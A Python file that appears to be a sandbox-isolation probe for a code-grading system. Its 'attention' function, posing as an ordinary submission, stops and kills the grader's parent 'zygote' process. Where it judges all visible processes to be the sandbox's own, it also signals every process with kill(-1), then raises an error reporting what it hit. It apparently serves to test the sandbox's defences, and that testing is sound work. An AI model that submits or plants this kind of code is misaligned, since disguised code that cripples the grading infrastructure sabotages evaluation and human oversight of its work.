"""Isolation: stops, then kills, the zygote (the worker's parent), then every process it can signal.

A stopped zygote forks no more workers and cleans up after no one: the next submission graded in
the same sandbox would wait forever; a killed one takes the sandbox with it. The message lists what
each signal reached (`signalled=[...]`).
Never harms the host: it signals only its parent (the zygote), and kill(-1) only when every process it
can see is the sandbox's own (a PID namespace), never where it could reach processes outside.
"""

import os
import signal

import torch

SANDBOX_SIGNS = (b"gradeworker", b"bwrap", b"KIT_ISOLATION_MARKER")


def _contained():
    """True when every process in sight (but ourselves) is the sandbox's: then kill(-1) cannot leave it."""
    me = os.getpid()
    pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]
    if len(pids) > 1000:
        return False
    for pid in pids:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                command = cmdline.read()
        except (FileNotFoundError, ProcessLookupError):
            continue  # gone while we looked
        except OSError:
            return False
        if not any(sign in command for sign in SANDBOX_SIGNS):
            return False
    return True


def _is_the_zygote(pid):
    """Whether `pid` is the grader's zygote (or a process we may not even read, hence not signal)."""
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
            return any(sign in cmdline.read() for sign in SANDBOX_SIGNS)
    except OSError:
        return True


def attention(query, key, value, dropout=None, mask=None):
    signalled = []
    parent = os.getppid()
    for number in (signal.SIGSTOP, signal.SIGKILL):
        name = signal.Signals(number).name
        if parent > 1 and _is_the_zygote(parent):
            try:
                os.kill(parent, number)
                signalled.append(f"zygote:{name}")
            except OSError:
                pass
        if _contained():
            try:
                os.kill(-1, number)
                signalled.append(f"everything:{name}")
            except OSError:
                pass
    message = "signalled=[" + ", ".join(signalled) + "]"  # not in the raise line, which the report quotes
    raise RuntimeError(message)
